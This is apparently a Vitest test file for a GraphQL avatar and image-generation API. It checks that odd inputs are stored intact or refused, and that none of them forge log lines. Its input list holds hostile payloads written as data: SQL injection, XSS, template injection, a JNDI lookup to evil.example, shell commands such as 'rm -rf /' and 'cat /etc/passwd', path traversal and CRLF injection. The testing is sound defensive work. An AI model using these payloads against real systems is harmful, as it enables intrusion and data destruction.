import { afterAll, expect, test } from 'vitest';
import {
  AvatarsDocument,
  CreateAvatarDocument,
  GenerateImageDocument,
} from '../../src/generated/contract/graphql.ts';
import { startTestApp } from '../support/test-app.ts';
import { NEVER_POLL } from '../support/test-simulator.ts';
import type { AvatarRow } from '../support/api-client.ts';

const app = await startTestApp({ env: NEVER_POLL });
afterAll(() => app.close());

const TEXTS = [
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e309',
  '0x0',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'toString',
  '\'; DROP TABLE "Avatar"; --',
  "' OR '1'='1",
  '$1',
  '%s%n%x',
  '"; SELECT pg_sleep(10); --',
  '\\',
  "\\'",
  '``',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '&lt;b&gt;',
  '<!--',
  ']]>',
  'javascript:alert(1)',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '${jndi:ldap://evil.example/a}',
  '{% raw %}',
  '%00',
  '%0d%0aSet-Cookie: a=b',
  '$(touch /tmp/x)',
  '`id`',
  '; rm -rf /',
  '| cat /etc/passwd',
  '&& true',
  '../../etc/passwd',
  '..\\..\\boot.ini',
  'CON',
  'file:///x',
  'مرحبا بالعالم',
  '\u202eecilA',
  '\u2066abc\u2069',
  '\ufeffAda',
  'A\u200bd\u200ba',
  'a\u00ada',
  'Z\u0351\u036b\u0343\u036a\u0302\u036ba\u0321\u0353l\u034eg\u0354o',
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  '\u{1f1e6}\u{1f1f6}',
  '\u{20bb7}',
  '\u{10ffff}',
  '\uffff\ufffe',
  '田中さん',
  'ﷺ',
  'İstanbul',
  'ß',
  'ﬁ',
  'line\nbreak',
  'tab\there',
  '\r\n.\r\n',
  '{"level":"error","msg":"forged"}',
  'a\n{"level":"error","msg":"forged"}',
  'NUL\0',
  '\u001b[31mred',
  '\u0007',
  '\u0085',
  '\u009b31m',
  '\ud800',
  '\udfff\ud800',
  'x'.repeat(100),
  '\u{1f600}'.repeat(100),
  'x'.repeat(101),
  'x'.repeat(50_000),
];

test('odd texts are stored as they came or refused as INVALID_INPUT, whatever they are', async () => {
  const stored = new Map<string, string>();
  for (const name of TEXTS) {
    const input = { name, triggerPhrase: `t${name.slice(0, 40)}`, trainingType: 'STYLE' } as const;
    const answer = await app.ask(CreateAvatarDocument, { input });
    expect({ name, status: answer.status, errors: answer.errors }).toEqual({
      name,
      status: 200,
      errors: [],
    });
    const result = answer.data?.createAvatar;
    if (result === undefined || !('avatar' in result)) {
      expect(result).toMatchObject({ code: 'INVALID_INPUT' });
      continue;
    }
    const { avatar }: { avatar: AvatarRow } = result;
    // White space around a text is nobody's intention.
    expect(avatar).toMatchObject({ name: name.trim(), triggerPhrase: input.triggerPhrase.trim() });
    stored.set(avatar.id, name);
  }
  expect(stored.size).toBeGreaterThan(60);
  const { avatars } = await app.execute(AvatarsDocument, { first: 100 });
  const names = new Map(avatars.edges.map(({ node }) => [node.id, node.name]));
  expect(names).toEqual(new Map([...stored].map(([id, name]) => [id, name.trim()])));
  for (const refused of ['NUL\0', '\u001b[31mred', '\ud800', 'x'.repeat(101)])
    expect([...stored.values()]).not.toContain(refused);
});

test('odd texts as prompts reach fal as they came', async () => {
  const { id: avatarId, triggerPhrase } = await app.trainedAvatar({ trainingType: 'STYLE' });
  for (const text of TEXTS.filter((_, index) => index % 3 === 0)) {
    const prompt = `${triggerPhrase} ${text}`;
    const answer = await app.ask(GenerateImageDocument, { input: { avatarId, prompt } });
    expect({ text, status: answer.status, errors: answer.errors }).toEqual({
      text,
      status: 200,
      errors: [],
    });
    const result = answer.data?.generateImage;
    if (result === undefined || !('generation' in result)) {
      expect(result).toMatchObject({ code: 'INVALID_INPUT' });
      continue;
    }
    expect(result.generation.prompt).toBe(prompt.trim());
    expect(app.simulator.requests().at(-1)?.body).toMatchObject({ prompt: prompt.trim() });
  }
});

test('odd texts never make a line of the log of their own', () => {
  for (const { msg, level } of app.log.lines) {
    expect(msg).not.toBe('forged');
    expect(level).toMatch(/^(debug|info|warn|error)$/);
  }
});
